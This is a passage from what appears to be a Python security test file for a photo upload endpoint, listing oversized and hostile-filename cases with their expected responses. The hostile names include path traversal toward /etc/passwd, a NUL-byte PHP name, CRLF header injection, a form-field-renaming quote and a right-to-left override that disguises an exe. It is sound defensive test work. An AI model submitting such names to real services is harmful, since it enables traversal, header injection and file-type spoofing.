    _file("jpeg-10mib-and-1", "JPEG 1024x768 padded to one byte over PHOTO_MAX_BYTES",
          lambda: _padded(PHOTO_MAX_BYTES + 1), expected=TOO_LARGE),
    # names: the name is never used, whatever it holds
    _file("name-traversal", "JPEG named ../../etc/passwd.jpg", photo_jpeg,
          filename="../../etc/passwd.jpg", expected=ACCEPTED, stored=JPEG_STORED),
    _file("name-traversal-windows", "JPEG named ..\\..\\x.jpg", photo_jpeg,
          filename="..\\..\\x.jpg", expected=ACCEPTED, stored=JPEG_STORED),
    _file("name-absolute", "JPEG named /tmp/x.jpg", photo_jpeg, filename="/tmp/x.jpg",
          expected=ACCEPTED, stored=JPEG_STORED),
    _file("name-nul", "JPEG named photo.php\\0.jpg", photo_jpeg, filename="photo.php\0.jpg",
          expected=ACCEPTED, stored=JPEG_STORED),
    _file("name-crlf", "JPEG named with CR LF and a header of its own", photo_jpeg,
          filename="a.jpg\r\nContent-Type: text/html", expected=BAD_REQUEST),
    _file("name-crlf-escaped", "the same name, escaped as browsers send it", photo_jpeg,
          filename="a.jpg%0D%0AContent-Type: text/html", expected=ACCEPTED,
          stored=JPEG_STORED),
    _file("name-quote", "JPEG named so as to rename its form field to uuid", photo_jpeg,
          filename='x.jpg"; name="uuid', expected=(422, "missing")),
    _file("name-300-chars", "JPEG with a name of 300 characters", photo_jpeg,
          filename="a" * 296 + ".jpg", expected=ACCEPTED, stored=JPEG_STORED),
    _file("name-rtl-override", "JPEG named photo\\u202egpj.exe (shows as photoexe.jpg)",
          photo_jpeg, filename="photo\u202egpj.exe", expected=ACCEPTED, stored=JPEG_STORED),
    _file("name-empty", "JPEG with an empty name", photo_jpeg, filename="",
          expected=ACCEPTED, stored=JPEG_STORED),
)

BY_NAME = {hostile.name: hostile for hostile in HOSTILE}
assert len(BY_NAME) == len(HOSTILE), "two hostile files share a name"
